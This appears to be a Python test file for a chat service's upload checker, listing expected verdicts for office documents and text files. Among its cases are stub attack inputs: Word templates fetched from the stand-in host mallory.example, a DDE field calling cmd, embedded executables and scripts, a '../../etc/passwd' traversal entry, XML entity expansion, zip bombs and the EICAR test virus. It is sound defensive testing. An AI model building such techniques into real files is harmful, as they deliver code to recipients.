"""What is expected of office documents and of text."""
# ruff: noqa: E501 (a table: one row a line)

import struct

from media.checks.signatures import TEST_VIRUS
from media.tests.corpus import writing
from media.tests.corpus.case import WEB, WHATSAPP, Case, cut
from media.tests.corpus.compound_files import compound
from media.tests.corpus.writing import (
    archive,
    excel,
    office,
    open_document,
    powerpoint,
    relation,
    sheet,
    word,
)

DOCUMENT, WEB_DOCUMENT = WHATSAPP["document"], WEB["document"]
PACKAGE = "Ole10Native"
SETTINGS = "word/_rels/settings.xml.rels"


def carried(name: str, body: bytes) -> bytes:
    """A file carried along as an object, as Word puts it there."""
    head = struct.pack("<IH", 99, 2) + name.encode() + b"\0C:\\" + name.encode() + b"\0"
    return compound({"\1" + PACKAGE: head + body})


def with_part(name: str, body: bytes, kind: str = "docx") -> bytes:
    return office(kind, {name: body})


GOOD = [
    Case("Word", "a.docx", DOCUMENT, office),
    Case("Excel", "a.xlsx", DOCUMENT, lambda: office("xlsx")),
    Case("PowerPoint", "a.pptx", DOCUMENT, lambda: office("pptx")),
    Case("Word with a link", "a.docx", DOCUMENT, lambda: with_part("word/_rels/document.xml.rels", relation("hyperlink", "https://example.org"))),
    Case("Word with a drawing (SVG) of Office 365", "a.docx", DOCUMENT, lambda: with_part("word/media/image2.svg", b"<svg/>")),
    Case("Word with a template of this computer", "a.docx", DOCUMENT, lambda: with_part(SETTINGS, relation("attachedTemplate", "file:///C:\\Users\\Ana\\Normal.dotm"))),
    Case("PowerPoint with a sheet in it", "a.pptx", DOCUMENT, lambda: with_part("ppt/embeddings/Sheet.xlsx", office("xlsx"), "pptx")),
    Case("Word with a text file as object", "a.docx", DOCUMENT, lambda: with_part("word/embeddings/oleObject1.bin", carried("notes.txt", b"hi"))),
    Case("Word of 2003", "a.doc", DOCUMENT, word),
    Case("Excel of 2003", "a.xls", DOCUMENT, lambda: excel(sheet(0))),
    Case("PowerPoint of 2003", "a.ppt", DOCUMENT, powerpoint),
    Case("OpenDocument, in the web chat", "a.odt", WEB_DOCUMENT, open_document),
    Case("OpenDocument with an empty list of Basic", "a.odt", WEB_DOCUMENT, lambda: open_document({"Basic/script-lc.xml": b"<x/>"})),
    Case("text", "a.txt", DOCUMENT, lambda: "¡Hola, Lucía!\n".encode()),
    Case("text with a mark (BOM)", "a.txt", DOCUMENT, lambda: "\ufeffHola\r\n".encode()),
    Case("text, UTF-16 of Windows", "a.txt", DOCUMENT, lambda: "Señor 😀".encode("utf-16")),
    Case("text, Latin-1", "a.txt", DOCUMENT, lambda: "Señor".encode("latin-1")),
    Case("text about a web page", "a.txt", DOCUMENT, lambda: b"<html><script>alert(1)</script>"),
    Case("CSV of Excel", "a.csv", DOCUMENT, lambda: "Nombre;Año\nMuñoz;2026\n".encode("cp1252")),
    Case("text without an ending", "README", DOCUMENT, lambda: b"read me"),
]  # fmt: skip

MACROS = [
    Case("Word with macros", "a.docm", DOCUMENT, lambda: office("docm", {"word/vbaProject.bin": b"x"}), "macros"),
    Case("Word with macros called .docx", "a.docx", DOCUMENT, lambda: office("docm", {"word/vbaProject.bin": b"x"}), "macros"),
    Case("Excel with macros called .xlsx", "a.xlsx", DOCUMENT, lambda: office("xlsm", {"xl/vbaProject.bin": b"x"}), "macros"),
    Case("Word, macros under another name", "a.docx", DOCUMENT, lambda: office("docx", types='<Override PartName="/word/x.jpg" ContentType="application/vnd.ms-office.vbaProject"/>'), "macros"),
    Case("Excel with a macro sheet of 1992", "a.xlsx", DOCUMENT, lambda: with_part("xl/macrosheets/sheet1.xml", b"<x/>", "xlsx"), "macros"),
    Case("Word with macros in a sheet in it", "a.docx", DOCUMENT, lambda: with_part("word/embeddings/a.xlsx", office("xlsm", {"xl/vbaProject.bin": b"x"})), "macros"),
    Case("Word of 2003 with macros", "a.doc", DOCUMENT, lambda: word(**{"Macros/VBA/dir": b"x", "Macros/PROJECT": b"y"}), "macros"),
    Case("Excel of 2003 with macros", "a.xls", DOCUMENT, lambda: compound({"Workbook": bytes(20), "_VBA_PROJECT_CUR/VBA/dir": b"x"}), "macros"),
    Case("Excel of 2003 with a macro sheet", "a.xls", DOCUMENT, lambda: excel(sheet(0), sheet(1)), "macros"),
    Case("PowerPoint of 2003 with macros", "a.ppt", DOCUMENT, lambda: powerpoint(writing.powerpoint_macros()), "macros"),
    Case("OpenDocument with Basic", "a.odt", WEB_DOCUMENT, lambda: open_document({"Basic/Standard/Module1.xml": b"<x/>"}), "macros"),
    Case("OpenDocument with Python", "a.odt", WEB_DOCUMENT, lambda: open_document({"Scripts/python/a.py": b"x"}), "macros"),
]  # fmt: skip

ENCRYPTED = [
    Case("Word with a password", "a.docx", DOCUMENT, lambda: compound({"EncryptedPackage": b"x", "EncryptionInfo": b"y"}), "encrypted"),
    Case("archive with a password, called .docx", "a.docx", DOCUMENT, writing.encrypted_archive, "encrypted"),
    Case("Word of 2003 with a password", "a.doc", DOCUMENT, lambda: word(0x0100), "encrypted"),
    Case("Excel of 2003 with a password", "a.xls", DOCUMENT, lambda: excel((0x2F, bytes(6)), sheet(0)), "encrypted"),
    Case("PowerPoint of 2003 with a password", "a.ppt", DOCUMENT, lambda: powerpoint(EncryptedSummary=b"x"), "encrypted"),
    Case("OpenDocument with a password", "a.odt", WEB_DOCUMENT, lambda: open_document(manifest=b"<manifest:encryption-data/>"), "encrypted"),
]  # fmt: skip

ACTIVE = [
    Case("Word with a template from afar", "a.docx", DOCUMENT, lambda: with_part(SETTINGS, relation("attachedTemplate", "https://mallory.example/x.dotm")), "active"),
    Case("Word with a template on a share", "a.docx", DOCUMENT, lambda: with_part(SETTINGS, relation("attachedTemplate", "\\\\mallory\\x.dotm")), "active"),
    Case("Word with a template on a share, as file:", "a.docx", DOCUMENT, lambda: with_part(SETTINGS, relation("attachedTemplate", "file://mallory/x.dotm")), "active"),
    Case("Word with an object from afar", "a.docx", DOCUMENT, lambda: with_part("word/_rels/document.xml.rels", relation("oleObject", "mhtml:http://mallory.example!x")), "active"),
    Case("Word with a program as object", "a.docx", DOCUMENT, lambda: with_part("word/embeddings/oleObject1.bin", carried("cv.exe", b"MZ" + bytes(9))), "active"),
    Case("Word with a script as object", "a.docx", DOCUMENT, lambda: with_part("word/embeddings/oleObject1.bin", carried("cv.vbs", b"x")), "active"),
    Case("Word with ActiveX", "a.docx", DOCUMENT, lambda: with_part("word/activeX/activeX1.bin", b"x"), "active"),
    Case("Word with a program among its pictures", "a.docx", DOCUMENT, lambda: with_part("word/media/a.png", b"MZ\x90"), "active"),
    Case("Word that asks another program (DDE)", "a.docx", DOCUMENT, lambda: with_part("word/document.xml", b"<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText>"), "active"),
    Case("Excel that asks another program (DDE)", "a.xlsx", DOCUMENT, lambda: with_part("xl/externalLinks/externalLink1.xml", b"<x><ddeLink ddeService='cmd'/></x>", "xlsx"), "active"),
    Case("Word whose XML grows (billion laughs)", "a.docx", DOCUMENT, lambda: with_part("word/styles.xml", b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x/>'), "active"),
    Case("Word with a member that climbs out", "a.docx", DOCUMENT, lambda: with_part("../../etc/passwd", b"x"), "active"),
    Case("Word of 2003 with a program as object", "a.doc", DOCUMENT, lambda: word(**{"ObjectPool/_1/\1" + PACKAGE: struct.pack("<IH", 9, 2) + b"a.exe\0a.exe\0MZ"}), "active"),
]  # fmt: skip

BOMBS = [
    Case("archive of zeros called .docx", "a.docx", DOCUMENT, lambda: with_part("word/media/a.bin", bytes(300 << 20)), "archive_too_big"),
    Case("Word that lies about a size", "a.docx", DOCUMENT, writing.lying_about_sizes, "damaged"),
    Case("Word with archives in archives (42.zip)", "a.docx", DOCUMENT, lambda: with_part("word/embeddings/a.zip", writing.nested(4)), "archive_too_big"),
    Case("Word of 25,000 members", "a.docx", DOCUMENT, lambda: office(more={f"a/{n}": b"" for n in range(25_000)}), "archive_too_big"),
]  # fmt: skip

LIES = [
    Case("archive", "a.zip", DOCUMENT, lambda: archive({"a.txt": b"hi"}), "wrong_type", format="zip"),
    Case("archive called .docx", "a.docx", DOCUMENT, lambda: archive({"a.txt": b"hi"}), "wrong_type", format="zip"),
    Case("JAR called .docx", "a.docx", DOCUMENT, lambda: archive({"META-INF/MANIFEST.MF": b"x", "A.class": b"x"}), "wrong_type", format="jar"),
    Case("OpenDocument to WhatsApp", "a.odt", DOCUMENT, open_document, "wrong_type", format="odt"),
    Case("program", "a.exe", DOCUMENT, lambda: b"MZ" + bytes(99), "wrong_type", format="exe"),
    Case("program called .pdf", "a.pdf", DOCUMENT, lambda: b"MZ" + bytes(99), "wrong_type", format="exe"),
    Case("program called .docx", "a.docx", DOCUMENT, lambda: b"\x7fELF" + bytes(99), "wrong_type", format="elf"),
    Case("Word called .exe", "a.exe", DOCUMENT, office, "wrong_type"),
    Case("Word called .pdf", "a.pdf", DOCUMENT, office, format="docx"),
    Case("installer (MSI) called .doc", "a.doc", DOCUMENT, lambda: compound({"Property": b"x"}), "wrong_type", format="ole"),
    Case("RTF", "a.rtf", DOCUMENT, lambda: b"{\\rtf1 hola}", "wrong_type", format="rtf"),
    Case("RTF called .doc", "a.doc", DOCUMENT, lambda: b"{\\rtf1{\\object\\objdata 0105}}", "wrong_type", format="rtf"),
    Case("web page", "a.html", DOCUMENT, lambda: b"<html>", "wrong_type", format="html"),
    Case("batch file", "a.bat", DOCUMENT, lambda: b"@echo off", "wrong_type", format="bat"),
    Case("batch file with dots behind it", "a.bat. .", DOCUMENT, lambda: b"@echo off", "wrong_type", format="bat"),
    Case("text called .pdf", "a.pdf", DOCUMENT, lambda: b"hello", "wrong_type"),
    Case("zeros called .txt", "a.txt", DOCUMENT, lambda: b"hello\0" * 9, "wrong_type"),
    Case("zeros late in a text", "a.txt", DOCUMENT, lambda: b"hello\n" * 20_000 + b"\0", "damaged"),
    Case("the test virus (EICAR)", "a.txt", DOCUMENT, lambda: TEST_VIRUS, "virus"),
    Case("the test virus called .com", "eicar.com", DOCUMENT, lambda: TEST_VIRUS, "virus"),
    Case("the test virus in a Word file", "a.docx", DOCUMENT, lambda: with_part("word/media/a.txt", TEST_VIRUS), "virus"),
    Case("text of 101 MB", "a.txt", DOCUMENT, lambda: b"hola\n" * (21 << 20), "too_big"),
    Case("an empty document", "a.docx", DOCUMENT, lambda: b"", "empty"),
    Case("an empty archive called .docx", "a.docx", DOCUMENT, lambda: archive({}), "wrong_type"),
    Case("Word, 40% of it", "a.docx", DOCUMENT, cut(office, 0.4), "damaged"),
    Case("Word, 90% of it", "a.docx", DOCUMENT, cut(office, 0.9), "damaged"),
    Case("Word of 2003, 40% of it", "a.doc", DOCUMENT, cut(word, 0.4), "damaged"),
    Case("Excel of 2003, 70% of it", "a.xls", DOCUMENT, cut(lambda: excel(sheet(0)), 0.7), "damaged"),
]  # fmt: skip

CASES = [*GOOD, *MACROS, *ENCRYPTED, *ACTIVE, *BOMBS, *LIES]
